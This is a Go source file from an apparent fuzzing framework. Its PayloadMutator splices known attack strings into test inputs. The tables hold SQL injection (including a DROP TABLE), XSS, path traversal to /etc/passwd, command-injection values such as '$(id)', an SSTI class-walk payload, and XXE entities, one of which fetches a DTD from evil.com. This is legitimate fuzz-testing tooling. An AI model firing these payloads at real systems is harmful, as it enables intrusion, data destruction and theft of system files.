package mutator

import (
	"github.com/emberfuzz/emberfuzz/internal/fuzz/ferr"
	"github.com/emberfuzz/emberfuzz/internal/fuzz/fuzzstate"
	"github.com/emberfuzz/emberfuzz/internal/fuzz/input"
)

// PayloadClass names one category of known-malicious strings PayloadMutator
// can draw from.
type PayloadClass int

const (
	PayloadSQLInjection PayloadClass = iota
	PayloadXSS
	PayloadPathTraversal
	PayloadCommandInjection
	PayloadSSTI
	PayloadXXE
)

func (c PayloadClass) String() string {
	switch c {
	case PayloadSQLInjection:
		return "sqli"
	case PayloadXSS:
		return "xss"
	case PayloadPathTraversal:
		return "path_traversal"
	case PayloadCommandInjection:
		return "command_injection"
	case PayloadSSTI:
		return "ssti"
	case PayloadXXE:
		return "xxe"
	default:
		return "unknown"
	}
}

var payloadTables = map[PayloadClass][]string{
	PayloadSQLInjection: {
		"'", "\" OR \"1\"=\"1", "' OR 1=1--", "'; DROP TABLE users;--",
		"' UNION SELECT NULL--", "1' AND SLEEP(5)--", "admin'--",
	},
	PayloadXSS: {
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
		"<svg onload=alert(1)>", "javascript:alert(1)",
		"<input onfocus=alert(1) autofocus>",
	},
	PayloadPathTraversal: {
		"../../etc/passwd", "..\\..\\windows\\win.ini", "..%2f..%2fetc/passwd",
		"....//....//etc/passwd",
	},
	PayloadCommandInjection: {
		"; id", "| id", "&& sleep 5", "`id`", "$(id)", "\n/bin/sh",
	},
	PayloadSSTI: {
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config}}",
		"{{''.__class__.__mro__[2].__subclasses__()}}",
	},
	PayloadXXE: {
		"<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
		"<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.com/xxe.dtd\">%xxe;]>",
	},
}

// PayloadMutator replaces or splices a known-malicious string for one of a
// fixed set of vulnerability classes into the input, the dictionary-of-known-bad
// counterpart to DictionaryMutator's harvested-at-runtime operands: where
// DictionaryMutator learns values from a live comparison trace, PayloadMutator
// draws from a static table of strings that have historically triggered the
// OWASP categories triage.Classify looks for, giving the fuzzer a way to reach
// those responses even against a harness with no CmpObserver wired at all.
type PayloadMutator struct {
	classes []PayloadClass
}

// NewPayloadMutator builds a PayloadMutator drawing from classes. With no
// classes given, it draws from every registered class.
func NewPayloadMutator(classes ...PayloadClass) *PayloadMutator {
	if len(classes) == 0 {
		classes = []PayloadClass{
			PayloadSQLInjection, PayloadXSS, PayloadPathTraversal,
			PayloadCommandInjection, PayloadSSTI, PayloadXXE,
		}
	}
	return &PayloadMutator{classes: classes}
}

func (m *PayloadMutator) Name() string { return "payload_splice" }

// Mutate picks one of the mutator's classes and one payload from its table,
// then either replaces the input outright or splices the payload in at a
// random position, each with equal probability.
func (m *PayloadMutator) Mutate(state *fuzzstate.State, in *input.Bytes, round int) error {
	if in == nil {
		return ferr.New(ferr.IllegalArgument, "payload mutator requires a non-nil input")
	}

	class := m.classes[state.Rng.Intn(len(m.classes))]
	table := payloadTables[class]
	if len(table) == 0 {
		return nil
	}
	payload := table[state.Rng.Intn(len(table))]

	data := in.Bytes()
	if len(data) == 0 || state.Rng.Intn(2) == 0 {
		*in = input.NewBytes([]byte(payload))
		return nil
	}

	pos := state.Rng.Intn(len(data) + 1)
	out := make([]byte, 0, len(data)+len(payload))
	out = append(out, data[:pos]...)
	out = append(out, payload...)
	out = append(out, data[pos:]...)
	*in = input.NewBytes(out)
	return nil
}

// PostExec is a no-op: PayloadMutator carries no cross-round state.
func (m *PayloadMutator) PostExec(state *fuzzstate.State, round int, newCorpusIdx *int) error {
	return nil
}
